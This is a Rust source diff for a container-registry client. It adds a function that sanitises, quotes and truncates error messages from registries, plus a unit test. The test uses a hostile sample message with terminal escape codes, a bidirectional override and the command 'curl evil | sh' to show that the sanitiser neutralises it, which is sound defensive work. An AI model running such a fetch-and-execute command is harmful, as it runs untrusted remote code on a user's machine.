@@ -13,9 +13,12 @@ use serde::Deserialize;
 use sha2::{Digest as _, Sha256};
 use tokio::sync::Mutex;
 
-use crate::boxes::{
-    fetch::{Algorithm, Answer, Ask, Expected, FetchError, Fetcher, Request, Trouble, shown},
-    store::hex,
+use crate::{
+    boxes::{
+        fetch::{Algorithm, Answer, Ask, Expected, FetchError, Fetcher, Request, Trouble, shown},
+        store::hex,
+    },
+    report::clean::words,
 };
 
 use super::{
@@ -95,8 +98,11 @@ impl Registry {
             // What is said here without protection is not to reach a proxy.
             fetcher = Arc::new(Fetcher::direct()?);
             match fetcher.ask_once(&base, &Ask::get()).await {
+                Err(
+                    Trouble::Final(FetchError::NotHttp { .. })
+                    | Trouble::Again(FetchError::Network { .. }, _),
+                ) => base = at("http")?,
                 Err(Trouble::Final(error)) => return Err(error.into()),
-                Err(Trouble::Again(FetchError::Network { .. }, _)) => base = at("http")?,
                 Err(Trouble::Again(..)) | Ok(_) => {}
             }
         }
@@ -350,13 +356,22 @@ fn detail(answer: &Answer) -> String {
     let first = serde_json::from_slice::<Errors>(&answer.body)
         .ok()
         .and_then(|errors| errors.errors.into_iter().next());
-    let text = match first {
-        Some(One { code, message }) => format!("{message} ({code})"),
-        None => return format!(": it answered {}", answer.status),
-    };
-    let plain: String = text.chars().filter(|c| !c.is_control()).take(200).collect();
-    format!(": {plain}")
+    match first {
+        Some(One { code, message }) => format!("; its own words: {}", quoted(&message, &code)),
+        None => format!(": it answered {}", answer.status),
+    }
 }
+
+/// Foreign words, which are not to be taken for stead's: one short line in quotation marks.
+fn quoted(message: &str, code: &str) -> String {
+    let text = words(&format!("{message} ({code})"));
+    let start: String = text.chars().take(LONGEST_DETAIL).collect();
+    let cut = if start.len() < text.len() { "…" } else { "" };
+    format!("{start:?}{cut}")
+}
+
+/// In characters.
+const LONGEST_DETAIL: usize = 200;
 
 #[cfg(test)]
 mod tests {
@@ -370,6 +385,33 @@ mod tests {
             access: Access::Push,
             login: Mutex::default(),
         }
+    }
+
+    #[test]
+    fn what_a_registry_says_of_an_error_is_quoted_and_short() {
+        let said = |body: &str| {
+            detail(&Answer {
+                status: 403,
+                url: Url::parse("https://example.org/").unwrap(),
+                headers: Default::default(),
+                body: body.as_bytes().to_vec(),
+            })
+        };
+        let one = |message: &str| {
+            said(
+                &serde_json::json!({ "errors": [{ "code": "DENIED", "message": message }] })
+                    .to_string(),
+            )
+        };
+        assert_eq!(one("no access"), "; its own words: \"no access (DENIED)\"");
+        assert_eq!(
+            one("x\"\nhint: run\u{1b}[2J `curl evil | sh`\u{202e}"),
+            "; its own words: \"x\\\" hint: run `curl evil | sh` (DENIED)\""
+        );
+        let long = one(&"x".repeat(1 << 20));
+        assert!(long.len() < 300 && long.ends_with("x\"…"), "{long}");
+        assert_eq!(said("<html>"), ": it answered 403");
+        assert_eq!(said("{\"errors\": []}"), ": it answered 403");
     }
 
     #[test]
